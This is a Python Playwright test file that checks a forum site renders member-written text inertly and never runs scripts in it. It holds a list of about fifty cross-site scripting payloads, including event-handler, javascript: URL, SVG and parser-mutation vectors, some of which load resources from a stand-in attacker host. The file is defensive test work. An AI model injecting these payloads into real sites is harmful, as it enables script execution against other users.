"""Scripts in members' texts never run: vectors of public collections, pasted as HTML and stored as words."""

import json
import uuid
from urllib.parse import quote

from playwright.sync_api import Page, expect

from tests.journeys.conftest import Site, Visit
from tests.journeys.test_forum import MAKE_POST, Forum, forum, run_sql  # noqa: F401 - the fixture
from tests.journeys.test_images import PASTE

# Each sets `window.attacked`, or asks another host, as soon as a browser takes it for markup. The public collections
# have them: handlers, addresses, other namespaces, raw text, broken quotes, mutations.
RUN = "window.attacked=1"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT/XSS>{RUN}</SCRIPT>",
    f"<<script>{RUN};//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    '<script src="https://attack.example/x.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img src=x:x onerror={RUN} //",
    f'<img """><script>{RUN}</script>">',
    f"<img/src=`x`onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<style><img src='</style><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    '<link rel=stylesheet href="https://attack.example/x.css">',
    '<base href="https://attack.example/">',
    '<meta http-equiv=refresh content="0;url=https://attack.example/">',
    f'<form><button formaction="javascript:{RUN}">x</button></form>',
    f'<a href="javascript:{RUN}" id=x>x</a>',
    f'<a href="jav&#x09;ascript:{RUN}">x</a>',
    '<div style="background:url(https://attack.example/x.png)">x</div>',
    "<style>@import 'https://attack.example/x.css';</style>",
    f"<template><script>{RUN}</script></template>",
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'-{RUN}-'",
    "${" + RUN + "}",
    "{{constructor.constructor('" + RUN + "')()}}",
    f"javascript:{RUN}",
    f"\u2028{RUN}\u2029",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
BODY = [{"type": "paragraph", "content": [{"type": "text", "text": attack}]} for attack in ATTACKS]
ADDRESSES = "[...document.querySelectorAll('main a, main [src]')].map((one) => one.getAttribute('href') ?? one.src)"


def watch(page: Page) -> list[str]:
    """Collects what the page asks of the attacker, and dialogs."""
    found: list[str] = []
    page.on("request", lambda request: "attack.example" in request.url and found.append(request.url))
    page.on("dialog", lambda dialog: (found.append(dialog.message), dialog.dismiss()))
    return found


def assert_nothing_ran(page: Page, found: list[str]) -> None:
    assert page.evaluate("window.attacked") is None
    assert not [address for address in page.evaluate(ADDRESSES) if address and "javascript:" in address.lower()]
    assert not found and "attack.example" not in page.url


def test_no_script_of_a_text_runs(site: Site, visit: Visit, forum: Forum) -> None:  # noqa: F811 - the fixture
    """Without the content security policy, which would hide a script that got through."""
    attacker = site.make_member(f"<img src=x onerror={RUN}>")
    area = run_sql(site, "select forum_id from public.posts where id = $1", uuid.UUID(forum.post))
    title, body = f"</title><svg onload={RUN}>", json.dumps({"type": "doc", "content": BODY})
    post = run_sql(site, MAKE_POST, area, uuid.UUID(attacker.id), title, body)
    page = visit(f"/en/forum/{forum.slug}/post/{post}", bypass_csp=True)
    found = watch(page)
    for address in (
        f"/en/forum/{forum.slug}/post/{post}",
        f"/en/forum/{forum.slug}",
        f"/en/people/{attacker.id}",
        f"/en/search?q={quote(ATTACKS[5])}",
        f"/en/search?q={quote('</script><script>' + RUN + '</script>')}",
    ):
        page.goto(address)
        page.wait_for_load_state("networkidle")
        assert_nothing_ran(page, found)
    page.goto(f"/en/forum/{forum.slug}/post/{post}")
    shown = page.locator("article, main").first.inner_text()
    assert all(" ".join(attack.split()) in " ".join(shown.split()) for attack in ATTACKS)

    writer = visit(forum.path("en"), as_=site.make_member("Mei"), bypass_csp=True)
    found = watch(writer)
    field = writer.get_by_role("textbox", name="Your reply")
    field.click()
    expect(writer.get_by_role("button", name="Bold")).to_be_visible()
    for attack in ATTACKS:
        field.evaluate(PASTE, f"<p>before</p>{attack}<p>after</p>")
    expect(field).to_contain_text("after")
    assert_nothing_ran(writer, found)
    # The check itself: as markup of the page, it would have run.
    writer.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", ATTACKS[5])
    writer.wait_for_function("window.attacked === 1")
